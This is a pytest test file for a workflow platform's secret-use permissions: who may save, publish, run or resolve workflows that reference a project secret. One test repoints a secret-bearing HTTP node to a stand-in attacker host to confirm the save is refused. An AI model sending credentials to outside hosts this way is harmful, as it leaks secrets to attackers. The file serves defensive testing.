"""Who may make a workflow use a project secret: owners and admins, or members with a ``use_secret`` grant.

Checked at save (API draft save, create, restore), validate, publish and run
(the starter, or the publisher of the version) — and again by the runtime
when it resolves the secret. Errors name the node and the secret.
"""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import PermissionDenied
from rest_framework.test import APIClient

from agents.effects.secrets import DjangoSecretStore
from agents.models import Run, RunStatus, Workflow, WorkflowVersion
from agents.services.runs import run_start
from agents.services.workflows import workflow_publish
from studio.crypto import secret_create
from studio.models import ApiKey, AuditEvent, Membership, Project, Role
from studio.selectors import may_use_secret, secret_use_grantees
from studio.services import secret_grant_use, secret_revoke_use
from tests.agents.effects.helpers import execute, graph, text_field
from tests.conftest import UserFactory

pytestmark = pytest.mark.django_db

URL = "https://api.example.com/hook"


def http_graph(url: str = URL, header: str = 'Bearer {{ secret("HOOK_TOKEN") }}', label: str = "Notify") -> dict:
    return graph(
        [
            {"id": "input", "type": "input", "config": {"fields": [text_field("message")]}},
            {
                "id": "notify",
                "type": "http",
                "label": label,
                "config": {
                    "method": "POST",
                    "url": url,
                    "inputs": [text_field("message")],
                    "headers": {"Authorization": header},
                    "body": {"text": "{{ message }}"},
                },
            },
            {"id": "output", "type": "output", "config": {"fields": [{"name": "status", "type": "int"}]}},
        ],
        [("input", "message", "notify", "message"), ("notify", "status", "output", "status")],
    )


def member(project: Project, username: str, role: str) -> Any:
    user = UserFactory(username=username)
    Membership.objects.create(project=project, user=user, role=role)
    return user


@pytest.fixture
def secret(project: Project, alice: Any) -> Any:
    return secret_create(project=project, name="HOOK_TOKEN", value="hook-token-value-1", created_by=alice)


@pytest.fixture
def erin(project: Project) -> Any:
    """An editor."""
    return member(project, "erin", Role.EDITOR)


@pytest.fixture
def workflow(project: Project, alice: Any) -> Workflow:
    """A workflow whose draft an owner wired the secret into."""
    return Workflow.objects.create(
        project=project, slug="notify", name="Notify", draft_graph=http_graph(), created_by=alice
    )


def api(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def save(user: Any, workflow: Workflow, graph_doc: dict) -> Any:
    workflow.refresh_from_db()
    return api(user).put(
        f"/api/v1/workflows/{workflow.pk}/draft/",
        {"graph": graph_doc, "base_revision": workflow.draft_revision},
        format="json",
    )


# ------------------------------------------------------------------------------------------- save


def test_an_editor_without_a_grant_cannot_save_a_graph_that_references_a_secret(project, secret, erin, workflow):
    workflow.draft_graph = http_graph(header="none")
    workflow.save()

    response = save(erin, workflow, http_graph())

    assert response.status_code == 403
    body = response.json()
    assert body["code"] == "secret_forbidden"
    assert "secret you may not use" in body["detail"]
    assert body["errors"][0]["node_id"] == "notify"
    assert 'Node "Notify" (notify)' in body["errors"][0]["message"] and '"HOOK_TOKEN"' in body["errors"][0]["message"]
    assert "hook-token-value-1" not in response.content.decode()
    workflow.refresh_from_db()
    assert workflow.draft_graph == http_graph(header="none")  # nothing stored


def test_an_editor_cannot_create_or_import_a_workflow_that_references_a_secret(project, secret, erin):
    response = api(erin).post(
        f"/api/v1/projects/{project.slug}/workflows/", {"name": "Mine", "graph": http_graph()}, format="json"
    )

    assert response.status_code == 403 and response.json()["code"] == "secret_forbidden"
    assert not Workflow.objects.filter(name="Mine").exists()


def test_an_editor_may_edit_around_a_secret_but_not_repoint_its_node(project, secret, erin, workflow):
    elsewhere = http_graph()
    elsewhere["nodes"][0]["position"] = {"x": 100, "y": 40}
    elsewhere["nodes"][2]["label"] = "Result"

    assert save(erin, workflow, elsewhere).status_code == 200

    repointed = http_graph(url="https://attacker.example.net/collect")
    response = save(erin, workflow, repointed)
    assert response.status_code == 403
    assert response.json()["errors"][0]["node_id"] == "notify"


def test_a_nonexistent_secret_may_be_named_by_an_admin_only(project, erin, alice, workflow):
    workflow.draft_graph = http_graph(header="none")
    workflow.save()

    assert save(erin, workflow, http_graph(header='{{ secret("LATER") }}')).status_code == 403
    assert save(alice, workflow, http_graph(header='{{ secret("LATER") }}')).status_code == 200


def test_with_a_grant_an_editor_can_save_publish_and_run(project, secret, erin, alice, workflow, dispatched):
    workflow.draft_graph = http_graph(header="none")
    workflow.save()
    secret_grant_use(secret=secret, user=erin, actor=alice)

    assert save(erin, workflow, http_graph()).status_code == 200
    published = api(erin).post(f"/api/v1/workflows/{workflow.pk}/publish/", {"note": "v1"}, format="json")
    assert published.status_code == 201, published.content
    started = api(erin).post(
        f"/api/v1/projects/{project.slug}/workflows/{workflow.slug}/runs",
        {"inputs": {"message": "hi"}, "draft": True},
        format="json",
    )
    assert started.status_code == 201, started.content
    assert Run.objects.get(pk=started.json()["id"]).created_by == erin


@pytest.mark.parametrize("role", [Role.OWNER, Role.ADMIN])
def test_owners_and_admins_use_every_secret_without_a_grant(project, secret, workflow, role, dispatched):
    boss = member(project, f"boss-{role}", role)
    workflow.draft_graph = http_graph(header="none")
    workflow.save()

    assert save(boss, workflow, http_graph()).status_code == 200
    assert api(boss).post(f"/api/v1/workflows/{workflow.pk}/publish/", {}, format="json").status_code == 201
    run = run_start(workflow=workflow, user=boss, inputs={"message": "hi"})
    assert run.status == RunStatus.QUEUED


def test_restoring_a_version_with_a_secret_is_refused_to_an_editor_without_a_grant(project, secret, erin, workflow):
    WorkflowVersion.objects.create(workflow=workflow, version=1, graph=http_graph(url="https://other.example.com/"))
    workflow.draft_graph = http_graph(header="none")
    workflow.save()

    response = api(erin).post(f"/api/v1/workflows/{workflow.pk}/restore/", {"version": 1}, format="json")

    assert response.status_code == 403 and response.json()["code"] == "secret_forbidden"


# --------------------------------------------------------------------------------- validate, publish


def test_validate_names_each_secret_problem_for_the_caller(project, secret, erin, alice, workflow):
    doc = http_graph()
    doc["nodes"].append(
        {
            "id": "shout",
            "type": "template",
            "label": "",
            "position": {"x": 0, "y": 0},
            "config": {"template": '{{ secret("HOOK_TOKEN") }}', "inputs": []},
        }
    )
    doc["nodes"][1]["config"]["headers"]["X-Other"] = '{{ secret("MISSING") }}'

    issues = api(erin).post(f"/api/v1/workflows/{workflow.pk}/validate/", {"graph": doc}, format="json").json()
    by_code = {(i["code"], i["node_id"]) for i in issues["issues"]}
    assert ("secret_forbidden", "notify") in by_code
    assert ("secret_not_found", "notify") in by_code
    assert ("secret_not_in_header", "shout") in by_code

    owner_issues = api(alice).post(f"/api/v1/workflows/{workflow.pk}/validate/", {}, format="json").json()
    assert owner_issues["valid"] is True, owner_issues


def test_an_editor_without_a_grant_cannot_publish_an_admins_draft(project, secret, erin, workflow):
    response = api(erin).post(f"/api/v1/workflows/{workflow.pk}/publish/", {"note": "x"}, format="json")

    assert response.status_code == 403 and response.json()["code"] == "secret_forbidden"
    assert not workflow.versions.exists()


# -------------------------------------------------------------------------------------------- run


def test_an_editor_without_a_grant_cannot_run_a_draft_that_uses_a_secret(project, secret, erin, workflow, dispatched):
    response = api(erin).post(
        f"/api/v1/projects/{project.slug}/workflows/{workflow.slug}/runs",
        {"inputs": {"message": "hi"}, "draft": True},
        format="json",
    )

    assert response.status_code == 403
    assert response.json()["code"] == "secret_forbidden"
    assert "HOOK_TOKEN" in response.json()["errors"][0]["message"]
    assert not Run.objects.exists() and dispatched == []


def test_a_published_version_runs_on_its_publishers_right_until_it_is_revoked(
    project, secret, erin, alice, workflow, dispatched
):
    runner = member(project, "rita", Role.RUNNER)
    secret_grant_use(secret=secret, user=erin, actor=alice)
    version = workflow_publish(workflow=workflow, user=erin)

    assert run_start(workflow=workflow, user=runner, inputs={"message": "hi"}, version=version)

    secret_revoke_use(secret=secret, user=erin, actor=alice)
    with pytest.raises(Exception, match="HOOK_TOKEN") as refused:
        run_start(workflow=workflow, user=runner, inputs={"message": "hi"}, version=version)
    assert type(refused.value).__name__ == "SecretUseForbiddenError"


def test_the_runtime_refuses_to_resolve_a_secret_the_run_may_not_use(project, secret, erin, workflow):
    """A run that got past the start (e.g. the grant was revoked while it was queued) fails at the node."""
    run = Run.objects.create(
        project=project,
        workflow=workflow,
        graph=workflow.draft_graph,
        inputs={"message": "hi"},
        status="queued",
        created_by=erin,
    )

    run = execute(run.pk)

    assert run.status == RunStatus.FAILED
    assert run.failed_node == "notify" and run.error_code == "secret_forbidden"
    assert "HOOK_TOKEN" in run.error


def test_the_secret_store_checks_the_run(project, secret, erin, alice, workflow):
    run = Run.objects.create(
        project=project, workflow=workflow, graph=workflow.draft_graph, inputs={}, status="running", created_by=erin
    )
    store = DjangoSecretStore(project_id=project.pk, run_id=run.pk)

    with pytest.raises(PermissionError, match="HOOK_TOKEN"):
        store.reveal("HOOK_TOKEN")
    secret_grant_use(secret=secret, user=erin, actor=alice)
    assert store.reveal("HOOK_TOKEN") == "hook-token-value-1"


# -------------------------------------------------------------------------- grants and the rule itself


def test_grants_are_given_by_admins_to_members_and_audited(project, secret, erin, alice, bob, charlie):
    with pytest.raises(PermissionDenied):
        secret_grant_use(secret=secret, user=erin, actor=erin)
    with pytest.raises(ValueError, match="charlie is not a member"):
        secret_grant_use(secret=secret, user=charlie, actor=alice)

    secret_grant_use(secret=secret, user=erin, actor=alice)
    assert list(secret_use_grantees(secret=secret)) == [erin]
    secret_revoke_use(secret=secret, user=erin, actor=alice)
    assert list(secret_use_grantees(secret=secret)) == []

    events = AuditEvent.objects.filter(verb__in=["secret.grant_use", "secret.revoke_use"]).order_by("id")
    assert [(e.verb, e.data["user"], e.data["name"]) for e in events] == [
        ("secret.grant_use", "erin", "HOOK_TOKEN"),
        ("secret.revoke_use", "erin", "HOOK_TOKEN"),
    ]
    assert "hook-token-value-1" not in str([e.data for e in events])


def test_a_grant_on_one_secret_does_not_open_another(project, secret, erin, alice):
    other = secret_create(project=project, name="OTHER", value="other-value-22")
    secret_grant_use(secret=secret, user=erin, actor=alice)

    assert may_use_secret(erin, project, secret) is True
    assert may_use_secret(erin, project, other) is False


def test_an_api_key_below_admin_caps_a_superuser(project, secret):
    root = get_user_model().objects.create_superuser("root", "root@example.test", "pw-for-tests-only")
    assert may_use_secret(root, project, secret) is True

    raw = ApiKey.generate()
    key = ApiKey.objects.create(
        project=project, name="k", prefix=raw[:10], hashed_key=ApiKey.hash(raw), role=Role.EDITOR, user=root
    )
    root._studio_api_key = key
    assert may_use_secret(root, project, secret) is False


def test_choosing_an_endpoints_api_key_secret_needs_the_right_to_use_it(project, secret, erin, alice):
    from traces.endpoints.services import EndpointError, endpoint_create

    data = {"name": "OpenAI", "model": "openai/gpt-4o-mini", "api_key_secret": str(secret.pk)}
    with pytest.raises(EndpointError, match="HOOK_TOKEN") as refused:
        endpoint_create(project=project, actor=erin, data=data)
    assert refused.value.code == "secret_forbidden" and refused.value.field == "api_key_secret"

    assert endpoint_create(project=project, actor=alice, data=data).api_key_secret == secret
